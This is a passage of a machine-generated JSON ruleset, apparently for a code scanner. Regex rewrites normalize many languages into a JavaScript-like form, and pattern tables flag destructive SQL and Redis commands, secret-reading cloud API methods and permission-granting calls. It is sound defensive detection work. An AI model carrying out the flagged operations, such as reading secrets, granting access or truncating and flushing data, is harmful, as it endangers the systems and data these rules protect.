-*)\\\\)?\\\\s*->\\\\s*([^\\\\n]{0,300}?)\\\\bend\\\\b","($1) => { $2 }"],["\\\\bfn\\\\s+\\\\(?([\\\\w, ]*)\\\\)?\\\\s*->","($1) =>"],["\\\\bEnum\\\\.each\\\\(([^()]*(?:\\\\([^()]*\\\\))?),\\\\s*",\
-"$1.forEach("],["\\\\|>\\\\s*:?(?:Enum|Stream)\\\\.each\\\\b",".forEach"],["\\\\|>\\\\s*:?(?:\\\\w+\\\\.)*(\\\\w+)\\\\(",".$1("],["\\\\|>\\\\s*:?(?:\\\\w+\\\\.)*(\\\\w+)",".$1()"],["(?<!\\\\w)\
-:(?=[a-z]\\\\w*\\\\.\\\\w)",""],["\\\\bfor\\\\s+(\\\\w+)\\\\s*<-\\\\s*(.*?)\\\\s*(?:,\\\\s*do:|\\\\bdo$)","for ($1 of $2);"],["\\\\bdefp?\\\\s+(\\\\w+)\\\\s*,\\\\s*do:\\\\s*([^\\\\n]*)","function \
-$1() { $2 }"],["\\\\bdefp?\\\\s+(\\\\w+)\\\\s*(\\\\([^()]*\\\\))\\\\s*,\\\\s*do:\\\\s*([^\\\\n]*)","function $1$2 { $3 }"],["\\\\bdefp?\\\\s+(\\\\w+)\\\\s+do\\\\b","function $1() {"],["\\\\bde\
-fp?\\\\s+(\\\\w+)\\\\s*(\\\\([^()]*\\\\))\\\\s*do\\\\b","function $1$2 {"],["^ {0,2}end\\\\b","}"],["\\\\{(\\\\w+),\\\\s*\\\\w+\\\\}\\\\s*=","$1 ="]]},"erlang":{"comment":"%[^\\\\n]*|^#![^\\\\\
-n]*","texts":"\\"((?:[^\\"\\\\\\\\]|\\\\\\\\[\\\\s\\\\S])*)\\"|'((?:[^'\\\\\\\\]|\\\\\\\\.)*)'","rewrites":[["\\\\b([a-z]\\\\w*):([a-z]\\\\w*)\\\\(","$1.$2("],["\\\\brpc\\\\.call\\\\([^,]*,\\\\s*(\\\\w\
-+)\\\\s*,\\\\s*(\\\\w+)\\\\s*,\\\\s*\\\\[","$1.$2(["],["\\\\bhttpc\\\\.request\\\\(\\\\s*(\\\\w+)\\\\s*,\\\\s*\\\\{","httpc_$1("],["\\\\[((?:[^\\\\[\\\\]|]|\\\\[[^\\\\[\\\\]]*\\\\])*)\\\\|\\\\|\\\\s*(\\\\w+)\\\\s\
-*<-\\\\s*(\\\\[[^\\\\[\\\\]]*\\\\]|[^\\\\[\\\\],]+)\\\\]","; for ($2 of $3); $1;"],["\\\\bfun\\\\s*\\\\(([^()]*)\\\\)\\\\s*->\\\\s*((?:[^,()\\\\n]|\\\\([^()\\\\n]*(?:\\\\([^()\\\\n]*\\\\)[^()\\\\n]*){0,\
-4}\\\\)){1,300}?)\\\\bend\\\\b","($1) => $2"],["\\\\+\\\\+","+"],["(?:\\\\{\\\\w{1,40},[ \\\\t]*){1,4}\\\\{?(?:_\\\\w{0,40},[ \\\\t]*){0,4}(\\\\w+)\\\\}{1,4}\\\\s*=","$1 ="]]},"named":{"co\
-mment":"//[^\\\\n]*|/\\\\*[\\\\s\\\\S]*?\\\\*/|^[ \\\\t]*#(?!define\\\\b)[^\\\\n]*|^[ \\\\t]*@\\\\w+(?:\\\\([^()\\\\n]*\\\\))?","texts":"\\"\\"\\"([\\\\s\\\\S]*?)\\"\\"\\"|(?:\\\\b[fsru]{1,2})?#*\\"(\
-(?:[^\\"\\\\\\\\\\\\n]|\\\\\\\\\\\\([^()\\\\n]*(?:\\\\([^()\\\\n]*\\\\))?\\\\)|\\\\\\\\[\\\\s\\\\S])*)\\"#*|(?<![&<\\\\w] ?)'((?:[^'\\\\\\\\\\\\n]|\\\\\\\\.)*)'|\`([^\`]*)\`","inserts":"(?:\\\\$\\\\{?|\\\\\\\\\\\\(|\\\\\
-{(?=\\\\w+\\\\}))([A-Za-z_][\\\\w.]*(?:\\\\([^()]*\\\\))?)[})]?","rewrites":[["(\\"\\\\d+\\"|\\\\b(?:Seq|Process|List)\\\\([^()]*\\\\))\\\\s*\\\\.?\\\\s*!{1,2}(?![=\\\\w(\\\\[])","$1.execute\
-()"],["^[ \\\\t]*(?:import|use|using|package|library|part)\\\\s*\\\\([^()]*\\\\)",""],["(?<=^|;)[ \\\\t]*(?:pub\\\\s+)?(?:import|use|using|package|library|part)\\\\s+[^\\\\n;(]\
-*(?:;|$)",""],["^[ \\\\t]*#define\\\\s+(\\\\w+)[ \\\\t]+","$1 = "],["::<[^<>()]*>",""],["::","."],["\\\\?(?=\\\\s*[;.,){\\\\n])|!!(?=[.,)])|\\\\?(?=\\\\.\\\\w)|(?<=[\\\\w)\\\\]])!(?=[\\\
-\\s.,;)\\\\]])",""],["->d_name\\\\b",""],["\\\\breaddir\\\\((\\\\w+)\\\\)","any_of(readdir($1))"],["\\\\.(?:file|directory)(?=\\\\s*[)&|])",".isFile"],["\\\\b(\\\\w+)!\\\\s*(?=[(\\\\[])\
-","$1"],["\\\\bvec\\\\[","["],["\\\\b(?:System|env|Deno)\\\\.(?:getProperty|getenv|var|var_os)\\\\(\\"\\\\d+\\"\\\\)\\\\.(?:unwrap|expect|unwrap_or_default)\\\\([^()]*\\\\)","$&"],["\
-\\\\.(?:for_each|try_for_each|foreach|forEachOrdered|each|forEachIndexed)\\\\b",".forEach"],["\\\\b(?:let|var|val)\\\\s+(?:mut\\\\s+)?(?=\\\\w+\\\\s*(?::[^=\\\\n]*)?=(?!=))",""\
-],["\\\\.(?:path|name|Name|getName|file_name|filename)\\\\(\\\\)",""],["\\\\.(?:(?:password|secret|apiToken)\\\\.)?plainText\\\\b",".getPlainText()"],["\\\\.(?:where|findAll|\
-filterNot|filterNotNull|takeWhile|withFilter)\\\\b",".filter"],["\\\\.(?:collect|mapNotNull|flatMap|filter_map|compactMap)(?=\\\\s*(?:\\\\(?\\\\s*\\\\{|\\\\(\\\\s*[|(\\\\w]))",".\
-map"],["(?<![\\\\w.])(?:\\\\w{1,40}\\\\.){0,6}(?:Uri|URI|URL|Url)\\\\.(?:unsafeParse|parse|apply|create|new)\\\\(","URI("],["\\\\.(?:absolutePath|canonicalPath|fullPath|pat\
-h|absolute)\\\\b(?!\\\\s*\\\\()",""],["\\\\bRuntime\\\\.(?:getRuntime\\\\(\\\\)|runtime)","Runtime"],["(?:Jenkins|hudson\\\\.model\\\\.Hudson)\\\\.(?:instance|get\\\\(\\\\)|getInstance\
-\\\\(\\\\)|instanceOrNull)\\\\.(?:getA|a)?(?:llItems|items|getItems)\\\\b(?:\\\\([^()]*\\\\))?","jenkinsItems()"],["(?<=^[ \\\\t]{0,40}|[;{}] {0,4})(\\\\w+)\\\\.(args?|addAll|add\
-|push|append)\\\\(","$1 = $1.$2("],["\\\\.([A-Z]\\\\w+)\\\\((?:\\"\\\\d+\\"|\\\\w*)\\\\)\\\\.(Delete|DeleteCollection)\\\\(",".$1.Delete("],["\\\\.(map|forEach|filter)\\\\((\\\\w[\\\\w.]*)\
-\\\\(_\\\\)\\\\)",".$1((it) => $2(it))"],["\\\\bfor\\\\s+_\\\\s*,\\\\s*(\\\\w+)\\\\s*:?=\\\\s*range\\\\s+","for $1 of "],["\\\\bfor\\\\s+(\\\\w+)\\\\s*,\\\\s*(\\\\w+)\\\\s*:?=\\\\s*range\\\\s+([^{\\\\n]\
-*(?:\\\\{[^{}]*\\\\}+)?)\\\\s*\\\\{","for $1 of $3 { $2 = $1;"],["\\\\bfor\\\\s+(\\\\w+)\\\\s*:?=\\\\s*range\\\\s+","for $1 of "],["\\\\[(?:\\\\d+|\\\\.\\\\.\\\\.)?\\\\](?:\\\\*?[\\\\w.]+|\\\\[\\\\][\\\
-\\w.]+)\\\\{([^{}]*)\\\\}","[$1]"],["\\\\bfor\\\\s*[({]?\\\\s*(\\\\w+)\\\\s*<-\\\\s*","for $1 of "],["\\\\b(?:fun|func|fn|def)\\\\s+(?:<[^<>]*>\\\\s*)?(?:\\\\([^()]*\\\\)\\\\s*)?(?:[\\\\w<>]+\
-\\\\.)*(\\\\w+)(?:<[^<>()]*>|\\\\[[^\\\\[\\\\]()]*\\\\])?\\\\s*\\\\(","function $1("],["\\\\bfunc\\\\s*\\\\(","function("],["(function \\\\w+\\\\([^()]*(?:\\\\([^()]*\\\\))?[^()]*\\\\))[^={\\\\n\
-]*=\\\\s*\\\\{","$1 {"],["(function \\\\w+\\\\([^()]*(?:\\\\([^()]*\\\\))?[^()]*\\\\))[^={\\\\n]*=\\\\s*(?=[^\\\\s{>=])([^\\\\n]*)","$1 { return $2 }"],["\\\\b(?:val|mut|lazy|defer|go|\
-await|unsafe|private|public|internal|override|static|inline|suspend|open|try)\\\\b[?!]?\\\\s+(?=[\\\\w\\"\\\\[(&*])",""],["^([ \\\\t]*(?:if\\\\s+|var\\\\s+)?)(\\\\w+)[ \\\\t]*,[ \\\
-\\t]*\\\\w+[ \\\\t]*(:?=)(?!=)","$1$2 $3"],["([(,=]\\\\s*(?:move\\\\s+)?)\\\\|([^|\\\\n]*)\\\\|\\\\s*(?:->\\\\s*[^{\\\\n]*)?","$1($2) => "],["\\\\{\\\\s*\\\\(?(\\\\w+(?:\\\\s*,\\\\s*\\\\w+)*)\\\\)?\
-\\\\s*(?:->|=>|\\\\bin\\\\b)(?=\\\\s)","{|$1|"],["(\\\\.\\\\w+)\\\\s*\\\\{\\\\s*\\\\|","$1() {|"],["(?<!^[ \\\\t]*(?:\\\\}[ \\\\t]*)?(?:for|if|else|while|switch|match|guard|catch|functio\
-n|class|extension|struct|impl|interface|enum|object)\\\\b[^\\\\n]{0,300})(\\\\.\\\\w+)\\\\s+\\\\{(?!\\\\s*\\\\|)","$1() {|it|"],["(?<!^[ \\\\t]*(?:\\\\}[ \\\\t]*)?(?:for|if|else|whil\
-e|switch|match|guard|catch|function|class|extension|struct|impl|interface|enum|object)\\\\b[^\\\\n]{0,300})(\\\\.\\\\w+\\\\([^()\\\\n]*\\\\))\\\\s*\\\\{(?!\\\\s*\\\\|)(?=[^{}]*(?:\\\\b\
-it|\\\\$0)\\\\b)","$1 {|it|"],["\\\\.filter\\\\(\\\\)\\\\s*\\\\{\\\\|(\\\\w+)\\\\|([^{}]*)\\\\}",".filter(($1) => $2)"],["[\\\\s\\\\S](?![\\\\s\\\\S])","$&\\nmain()"],["\\\\$0","it"],["\\\\(([^()\
-\\\\n]*?)(?<![\\\\w.])_(?=\\\\s*[./)]|\\\\s*\\\\.\\\\w)","((it) => $1it"],["(\\"\\\\d+\\"|\\\\w|\\\\))\\\\s+\\\\.\\\\/\\\\s+","$1 / "]]},"typed":{"comment":"//[^\\\\n]*|/\\\\*[\\\\s\\\\S]*?\\\\*/|^[\
- \\\\t]*#(?!define\\\\b)[^\\\\n]*|^[ \\\\t]*@\\\\w+(?:\\\\([^()\\\\n]*\\\\))?","texts":"\\"\\"\\"([\\\\s\\\\S]*?)\\"\\"\\"|(?:\\\\b[rLu]{1,2})?\\"((?:[^\\"\\\\\\\\\\\\n]|\\\\\\\\[\\\\s\\\\S])*)\\"|'((?:[^'\
-\\\\\\\\\\\\n]|\\\\\\\\.)*)'","inserts":"\\\\$\\\\{?([A-Za-z_][\\\\w.]*(?:\\\\([^()]*\\\\))?)\\\\}?","rewrites":[["^[ \\\\t]*(?:import|use|using|package|library|part)\\\\s*\\\\([^()]*\\\\)",\
-""],["(?<=^|;)[ \\\\t]*(?:pub\\\\s+)?(?:import|use|using|package|library|part)\\\\s+[^\\\\n;(]*(?:;|$)",""],["^[ \\\\t]*#define\\\\s+(\\\\w+)[ \\\\t]+","$1 = "],["::<[^<>()]*>"\
-,""],["::","."],["\\\\?(?=\\\\s*[;.,){\\\\n])|!!(?=[.,)])|\\\\?(?=\\\\.\\\\w)|(?<=[\\\\w)\\\\]])!(?=[\\\\s.,;)\\\\]])",""],["->d_name\\\\b",""],["\\\\breaddir\\\\((\\\\w+)\\\\)","any_of(read\
-dir($1))"],["\\\\.(?:file|directory)(?=\\\\s*[)&|])",".isFile"],["\\\\b(\\\\w+)!\\\\s*(?=[(\\\\[])","$1"],["\\\\bvec\\\\[","["],["\\\\b(?:System|env|Deno)\\\\.(?:getProperty|getenv\
-|var|var_os)\\\\(\\"\\\\d+\\"\\\\)\\\\.(?:unwrap|expect|unwrap_or_default)\\\\([^()]*\\\\)","$&"],["\\\\.(?:for_each|try_for_each|foreach|forEachOrdered|each|forEachIndexed)\\\\b\
-",".forEach"],["\\\\b(?:let|var|val)\\\\s+(?:mut\\\\s+)?(?=\\\\w+\\\\s*(?::[^=\\\\n]*)?=(?!=))",""],["\\\\.(?:path|name|Name|getName|file_name|filename)\\\\(\\\\)",""],["\\\\.(?:(?\
-:password|secret|apiToken)\\\\.)?plainText\\\\b",".getPlainText()"],["\\\\.(?:where|findAll|filterNot|filterNotNull|takeWhile|withFilter)\\\\b",".filter"],["\\\\.(?:colle\
-ct|mapNotNull|flatMap|filter_map|compactMap)(?=\\\\s*(?:\\\\(?\\\\s*\\\\{|\\\\(\\\\s*[|(\\\\w]))",".map"],["(?<![\\\\w.])(?:\\\\w{1,40}\\\\.){0,6}(?:Uri|URI|URL|Url)\\\\.(?:unsafePar\
-se|parse|apply|create|new)\\\\(","URI("],["\\\\.(?:absolutePath|canonicalPath|fullPath|path|absolute)\\\\b(?!\\\\s*\\\\()",""],["\\\\bRuntime\\\\.(?:getRuntime\\\\(\\\\)|runtime)\
-","Runtime"],["(?:Jenkins|hudson\\\\.model\\\\.Hudson)\\\\.(?:instance|get\\\\(\\\\)|getInstance\\\\(\\\\)|instanceOrNull)\\\\.(?:getA|a)?(?:llItems|items|getItems)\\\\b(?:\\\\([^(\
-)]*\\\\))?","jenkinsItems()"],["(?<=^[ \\\\t]{0,40}|[;{}] {0,4})(\\\\w+)\\\\.(args?|addAll|add|push|append)\\\\(","$1 = $1.$2("],["\\\\.([A-Z]\\\\w+)\\\\((?:\\"\\\\d+\\"|\\\\w*)\\\\)\\\\\
-.(Delete|DeleteCollection)\\\\(",".$1.Delete("],["\\\\bnew\\\\s+[\\\\w.]+\\\\[\\\\w*\\\\]\\\\s*\\\\{([^{}]*)\\\\}","[$1]"],["\\\\bnew\\\\s+(?=[A-Z])",""],["\\\\bprintln?[ \\\\t]+(?=[\\\\w\\"]\
-)",""],["\\\\.(?:eachFileRecurse|eachDirRecurse|traverse)\\\\b(?:\\\\(\\\\w*\\\\))?(?=\\\\s*\\\\{)",".walk().forEach"],["\\\\.(?:eachFile|eachDir)\\\\b(?:\\\\(\\\\))?(?=\\\\s*\\\\{)",".l\
-istFiles().forEach"],["\\\\bfor\\\\s*\\\\(\\\\s*(?:[\\\\w.\\\\[\\\\]<>]+[\\\\s&*]+)*(\\\\w+)\\\\s*:(?!:)\\\\s*","for ($1 of "],["(\\\\w|\\\\))\\\\.text\\\\s*=(?!=)\\\\s*([^\\\\n;}]+)","$1.writeT\
-ext($2)"],["(File\\\\([^()]*\\\\))\\\\s*<<\\\\s*(\\"\\\\d+\\")","$1.appendText($2)"],["\\\\b(?:final|static|public|private|protected|const|constexpr|auto|late|synchronized|ex\
-tern|inline|volatile|unsigned|try)\\\\b\\\\s*(?=[\\\\w\\"\\\\[(&*])",""],["\\\\bstruct\\\\s+(?=\\\\w+\\\\s*[*\\\\w])",""],["<(?:[\\\\w.?, \\\\[\\\\]]|<[\\\\w.?, ]*>)*>(?=\\\\s*[\\\\w(\\\\[])","\
-"],["\\\\bdef\\\\s+(\\\\w+)\\\\s*\\\\(","function $1("],["(^[ \\\\t]*|[;}{][ \\\\t]*)(?!(?:else|return|new|throw|function|case|await|yield|in|of|do)\\\\b)[A-Za-z_][\\\\w.]*(?:\\\\[\
-\\\\])*[\\\\s*&?]+(?!(?:if|for|while|switch|catch)\\\\b)(\\\\w+)\\\\s*\\\\(([^()]*)\\\\)\\\\s*(?:throws\\\\s+[\\\\w., ]+|async\\\\s*)?\\\\{","$1function $2($3) {"],["(?<![\\\\w.])(?!(?:e\
-lse|return|new|throw|function|case|await|yield|in|of|assert|println|print|not|let|var)\\\\b)[A-Za-z_][\\\\w.]*(?:\\\\[\\\\])*(?:\\\\s*[*&?]+\\\\s*|\\\\s+)(?!(?:in|of|instance\
-of|is|as)\\\\b)(\\\\w+)(?:\\\\[\\\\w*\\\\])*(?=\\\\s*(?:[,);]|=(?!=)))","$1"],["(=\\\\s*|[(,]\\\\s*)\\\\{([^{};:]*)\\\\}","$1[$2]"],["\\\\bfor\\\\s*\\\\(\\\\s*[\\\\w.]+\\\\s+(\\\\w+)\\\\s+in\\\\s+",\
-"for ($1 of "],["\\\\b(?:snprintf|sprintf_s)\\\\s*\\\\(\\\\s*(\\\\w+)\\\\s*,[^,]*,","$1 = sprintf("],["\\\\bsprintf\\\\s*\\\\(\\\\s*(\\\\w+)\\\\s*,(?=\\\\s*\\")","$1 = sprintf("],["\\\\bstr\
-n?cpy\\\\s*\\\\(\\\\s*(\\\\w+)\\\\s*,","$1 = std.string("],["\\\\bstrn?cat\\\\s*\\\\(\\\\s*(\\\\w+)\\\\s*,","$1 += std.string("],["\\\\s->\\\\s*(?=\\\\w|\\\\{|\\\\()"," => "],["\\\\{\\\\s*\\\\(?(\\\\w\
-+(?:\\\\s*,\\\\s*\\\\w+)*)\\\\)?\\\\s*(?:->|=>|\\\\bin\\\\b)(?=\\\\s)","{|$1|"],["(\\\\.\\\\w+)\\\\s*\\\\{\\\\s*\\\\|","$1() {|"],["(?<!^[ \\\\t]*(?:\\\\}[ \\\\t]*)?(?:for|if|else|while|switch|m\
-atch|guard|catch|function|class|extension|struct|impl|interface|enum|object)\\\\b[^\\\\n]{0,300})(\\\\.\\\\w+)\\\\s+\\\\{(?!\\\\s*\\\\|)","$1() {|it|"],["(?<!^[ \\\\t]*(?:\\\\}[ \\\\\
-t]*)?(?:for|if|else|while|switch|match|guard|catch|function|class|extension|struct|impl|interface|enum|object)\\\\b[^\\\\n]{0,300})(\\\\.\\\\w+\\\\([^()\\\\n]*\\\\))\\\\s*\\\\{(?\
-!\\\\s*\\\\|)(?=[^{}]*(?:\\\\bit|\\\\$0)\\\\b)","$1 {|it|"],["\\\\.filter\\\\(\\\\)\\\\s*\\\\{\\\\|(\\\\w+)\\\\|([^{}]*)\\\\}",".filter(($1) => $2)"],["[\\\\s\\\\S](?![\\\\s\\\\S])","$&\\nmain()"],\
-["\\\\$0","it"]]},"tcl":{"comment":"(?:^|;)[ \\\\t]*#[^\\\\n]*","texts":"\\"((?:[^\\"\\\\\\\\]|\\\\\\\\[\\\\s\\\\S])*)\\"|\\\\[list\\\\s+([^\\\\[\\\\]$\\"{}]*)\\\\]|(?<=\\\\b(?:set|foreach) {1,4\
-}\\\\w{1,40} {1,4})\\\\{([^{}$\\\\[\\\\];]*)\\\\}|(?<=\\\\bset {1,4}\\\\w{1,40} {1,4})([\\\\w.~/-]+)|(?<=\\\\b(?:exec|spawn) {1,4}(?:--?\\\\w{1,20} {1,4}){0,3})([^\\\\s\\\\[-][^\\\\n;\\\\]\
-}]*)|(?<=(?:\\\\bfile {1,4}(?:delete|join|normalize|mkdir)|\\\\bglob|\\\\bopen)\\\\b[^\\\\n;\\\\]}\\\\[]{0,300} )(?!-)([$*~/.\\\\w][\\\\w./~*$-]*)","inserts":"\\\\$\\\\{?(?:::)?([A-Z\
-a-z_]\\\\w*)\\\\}?","rewrites":[["\\\\$\\\\{?(?:::)?(\\\\w+)\\\\}?","$1"],["\\\\b(?:exec|spawn)\\\\s+(?:--?\\\\w+\\\\s+)*(\\\\((?:[^()]|\\\\([^()]*\\\\))*\\\\)|\\"\\\\d+\\")","system($1)"],["\\\
-\\[\\\\s*file\\\\s+(?:join|normalize)\\\\s+(\\\\S+)\\\\s+(\\\\S+?)\\\\s*\\\\]","join_path($1, $2)"],["\\\\[\\\\s*glob\\\\s+(?:-nocomplain\\\\s+|-types?\\\\s+\\\\S+\\\\s+|--\\\\s+)*-dir(?:ectory\
-)?\\\\s+(\\\\S+)\\\\s+(?:-\\\\w+\\\\s+)*(\\\\S+?)\\\\s*\\\\]","glob(join_path($1, $2))"],["\\\\[\\\\s*glob\\\\s+(?:-\\\\w+\\\\s+)*(\\\\S+?)\\\\s*\\\\]","glob($1)"],["\\\\bfile\\\\s+tempfile\\\\s+(\\\\\
-w+)(?:\\\\s+\\\\w+)?","$1 = mktemp()"],["\\\\bfile\\\\s+delete\\\\s+(?:-force\\\\s+|--\\\\s+)*\\\\{\\\\*\\\\}([^\\\\n;\\\\]}]+)",";rm_rf(words($1))"],["\\\\bfile\\\\s+delete\\\\s+(?:-force\\\\\
-s+|--\\\\s+)*([^\\\\n;\\\\]}]+)",";rm_rf($1)"],["(\\\\brm_rf\\\\((?:\\"\\\\d+\\"|\\\\w+|\\\\((?:[^()]|\\\\([^()]*\\\\))*\\\\)))\\\\s+(?=[\\"\\\\w(])","$1); rm_rf("],["(\\\\brm_rf\\\\((?:\\"\\\\d+\\\
-"|\\\\w+|\\\\((?:[^()]|\\\\([^()]*\\\\))*\\\\)))\\\\s+(?=[\\"\\\\w(])","$1); rm_rf("],["\\\\[\\\\s*open\\\\s+(\\\\S+?)\\\\s+(\\\\w+|\\"\\\\d+\\")\\\\s*\\\\]","open($1, \\"$2\\")"],["\\\\bforeach\\\\s+(\
-\\\\w+)\\\\s+(\\"\\\\d+\\"|\\\\w+|\\\\w+\\\\((?:[^()]|\\\\([^()]*\\\\))*\\\\))\\\\s*\\\\{","for ($1 of words($2)) {"],["\\\\bproc\\\\s+(\\\\w+)\\\\s+\\\\{(\\\\w*)\\\\}\\\\s*\\\\{","function $1($2) {"],[\
-"\\\\bset\\\\s+(\\\\w+)\\\\s+\\\\[?([^\\\\n;\\\\]}]+)","$1 = $2"],["(?<=^[ \\\\t]{0,40}|[;{}] {0,4})(\\\\w+)\\\\s+(\\"\\\\d+\\"|\\\\w+)\\\\s*(?=$|[;}])","$1($2)"],["[\\\\[\\\\]]"," "]]},"lisp"\
-:{"comment":";[^\\\\n]*","texts":"(?:#p)?\\"((?:[^\\"\\\\\\\\]|\\\\\\\\[\\\\s\\\\S])*)\\"|\\\\?\\\\\\\\?.","rewrites":[["(?<=[\\\\w\\"])[-\\\\/](?=\\\\w)","_"],["\\\\b[a-z_]\\\\w*:{1,2}(?=\\\\w)",\
-""],["\\\\(\\\\s*(?:dolist|loop\\\\s+for|for\\\\s+\\\\(?\\\\[?)\\\\s+\\\\(*\\\\s*(\\\\w+)\\\\s+(?:in\\\\s+)?","; for $1 of "],["\\\\(\\\\s*(?:let\\\\*?|if_let\\\\*?|when_let\\\\*?)\\\\s+\\\\(\\\\s*\\\\(\
-\\\\s*(\\\\w+)\\\\s+","; $1 = ("],["(?<=\\\\)\\\\s{0,9})\\\\(\\\\s{0,9}(\\\\w+)\\\\s+(?=\\\\([^()]*\\\\)\\\\s*\\\\)\\\\s*\\\\)?\\\\s*\\\\()","; $1 = ("],["\\\\(\\\\s*(?:setq|defvar|defconst|defparam\
-eter|define|setf)\\\\s+(\\\\w+)\\\\s+","; $1 = ("],["\\\\(\\\\s*(?:defun|define)\\\\s+\\\\(?(\\\\w+)\\\\s+\\\\(?([^()]*)\\\\)","; function $1($2) { "],["\\\\(\\\\s*lambda\\\\s+\\\\(([^()]*)\\\
-\\)\\\\s*","(($1) => "],["\\\\(\\\\s*(?:progn|begin|when|unless|if|and|or|condition_case|ignore_errors|save_excursion|display)\\\\s","; ("],["['#]{1,2}(?=[(\\\\w])",""],["\
-\\\\(\\\\s*(?:expand_file_name|merge_pathnames)\\\\s+(\\\\w+|\\"\\\\d+\\")\\\\s+(\\\\w+|\\"\\\\d+|\\\\([^()]*\\\\)|\\"\\\\d+\\")\\\\s*\\\\)","join_path($2, $1)"],["\\\\(\\\\s*(\\\\w[\\\\w/:]*)(?=[\\\\s\
-)])\\\\s*","$1("],["((?:\\"\\\\d+\\"|\\\\)|(?<![=>]\\\\s{0,4})\\\\b(?!of\\\\b|for\\\\b|function\\\\b)\\\\w+))\\\\s+(?=[\\"\\\\w(])(?!of\\\\b|=)","$1, "],[",\\\\s*(?:nil|t)\\\\b",""]]},"haskel\
-l":{"comment":"\\\\{-[\\\\s\\\\S]*?-\\\\}|--[^\\\\n]*","texts":"\\"((?:[^\\"\\\\\\\\]|\\\\\\\\[\\\\s\\\\S])*)\\"|'(?:[^'\\\\\\\\]|\\\\\\\\.)'","rewrites":[["^import\\\\b[^\\\\n]*",""],["\\\\b(?:[A-Z]\
-\\\\w*\\\\.)+(?=[a-z])",""],["<-","="],["<>|\\\\+\\\\+","+"],["<\\\\/>","/"],["\\\\b(\\\\w+)\\\\s*=\\\\s*getHomeDirectory\\\\b","$1 = \\"~\\""],["\\\\blet\\\\s+(?=\\\\w+\\\\s*=)",""],["\\\\b(?\
-:mapM_|traverse_|forConcurrently_)\\\\s+(\\\\w+)\\\\s+(\\\\[[^\\\\[\\\\]]*\\\\]|\\\\w+)","map($1, $2)"],["\\\\bforM_\\\\s+(\\\\[[^\\\\[\\\\]]*\\\\]|\\\\w+)\\\\s*\\\\$?\\\\s*\\\\\\\\(\\\\w+)\\\\s*->","for \
-($2 of $1); "],["\\\\b(callCommand|system|shell|spawnCommand|remove\\\\w+|readFile|words)\\\\s+(?:\\\\$\\\\s*)?(?=[\\"(\\\\w])(\\"\\\\d+\\"(?:\\\\s*[+\\\\/]\\\\s*(?:\\"\\\\d+\\"|\\\\w+))*|\\\
-\\w+(?:\\\\s*[+\\\\/]\\\\s*(?:\\"\\\\d+\\"|\\\\w+))*|\\\\([^()]*\\\\))","$1($2)"],["\\\\b(callProcess|readProcess|rawSystem)\\\\s+(\\"\\\\d+\\")\\\\s+(\\\\[[^\\\\[\\\\]]*\\\\])","spawn($2, $3)"],\
-["\\\\b(writeFile|appendFile)\\\\s+(\\"\\\\d+\\"|\\\\w+|\\\\([^()]*\\\\))\\\\s+(\\"\\\\d+\\"|\\\\w+)","$1($2, $3)"]]},"octave":{"comment":"[%#][^\\\\n]*","texts":"\\"((?:[^\\"\\\\\\\\]|\\\\\\\\[\
-\\\\s\\\\S])*)\\"|(?<![\\\\w)\\\\]}])'((?:[^'\\\\n]|'')*)'","rewrites":[["\\\\brmdir\\\\s*\\\\(([^(),]*),\\\\s*\\"\\\\d+\\"\\\\s*\\\\)","rm_rf($1)"],["\\\\b(?:delete|unlink)\\\\s*\\\\(","remove\
-("],["\\\\b(?:unix|dos|shell_cmd)\\\\s*\\\\(","system("],["\\\\bfullfile\\\\s*\\\\(","join_path("],["\\\\{([^{};]*\\"[^{};]*)\\\\}","[$1]"],["\\\\[\\\\s*(\\"\\\\d+\\")\\\\s+(?=[\\"\\\\w])","\
-[$1, "],["\\\\bfor\\\\s+(\\\\w+)\\\\s*=\\\\s*(\\\\[[^\\\\[\\\\]]*\\\\]|\\\\w+)","for ($1 of $2);"],["(\\\\b[a-z]\\\\w*)\\\\{[\\\\w:]+\\\\}","$1"]]}},"awk":{"comment":["#"],"sigils":"","inter\
-polation":"none","triple":false,"single_escapes":true,"quoting":"none","patterns":true,"lines":"statements"},"operators":{"||":1,"??":1,"or":1,"&&":2,"and":2,"=\
-=":3,"!=":3,"===":3,"!==":3,"<":3,">":3,"<=":3,">=":3,"=~":3,"in":3,"is":3,"..":3,"|":4,"^":5,"&":6,"<<":7,">>":7,"+":8,"-":8,".":8,"*":9,"/":9,"%":9,"//":9,"x"\
-:9,"**":10},"sql":[{"words":[["TRUNCATE"],["TABLE"]],"does":"truncate","name":2},{"words":[["TRUNCATE"]],"does":"truncate","name":1},{"words":[["CREATE"],["USER\
-","ROLE","LOGIN"]],"does":"create-user","name":2},{"words":[["ALTER"],["USER","ROLE","LOGIN"]],"does":"alter-user","name":2},{"words":[["ALTER"],["SYSTEM"]],"do\
-es":"set-global","name":3},{"words":[["SET"],["GLOBAL","PERSIST"]],"does":"set-global","name":2},{"words":[["PRAGMA"],["WRITABLE_SCHEMA"]],"does":"set-global","\
-name":1},{"words":[["SHUTDOWN"]],"does":"shutdown"},{"words":[["ATTACH"],["DATABASE"]],"does":"attach","name":2},{"words":[["ATTACH"]],"does":"attach","name":1}\
-,{"words":[["KILL"]],"does":"kill","name":1},{"words":[["FLUSHALL","FLUSHDB"]],"does":"flush","name":0},{"words":[["CREATE"],["DATABASE","SCHEMA"]],"does":"crea\
-te","name":2},{"words":[["PURGE"]],"does":"purge","name":1},{"words":[["CONFIG"],["SET"],["DIR","DBFILENAME"]],"does":"set-global","name":2},{"words":[["RESET"]\
-,["MASTER","REPLICA","SLAVE"]],"does":"purge","name":1}],"signs":{"name-tests":["[=!<>]=|[<>]|\\\\b(?:in|match)\\\\b|=~|\\\\b(?:endswith|startswith|endsWith|startsWit\
-h|includes|test|match|search|end_with\\\\?|start_with\\\\?)"],"kind-tests":["is_?(?:dir|file|link|symlink)|isDirectory|isFile|isSymbolicLink|exists|(?:directory|fil\
-e|exist)\\\\?|-[dfel]\\\\b","i"],"age-tests":["[acm]time|birthtime|\\\\bst_size|getsize|\\\\.size\\\\b|file(?:size|mtime)|\\\\s-[MAC]\\\\s"],"secret-methods":["^(?:get|batch_\
-?get)_?secret_?values?$|^(?:access_?secret_?version|get_?secret|read_?secret(?:_?version)?|get_?(?:frozen_?)?credentials)$|^(?:list|read)_?(?:namespaced_?)?secr\
-et(?:_?for_?all_?namespaces)?$","i"],"granting-methods":["^(?:attach|put)_?(?:user|role|group)_?policy(?:_?command)?$|^authorize_?security_?group_?ingress(?:_?c\
-ommand)?$|^(?:create_?access_?key|add_?user_?to_?group|put_?bucket_?(?:policy|acl))(?:_?command)?$","i"],"emptying-methods":["^(?:empty|obliterate|clear|drop|fl\
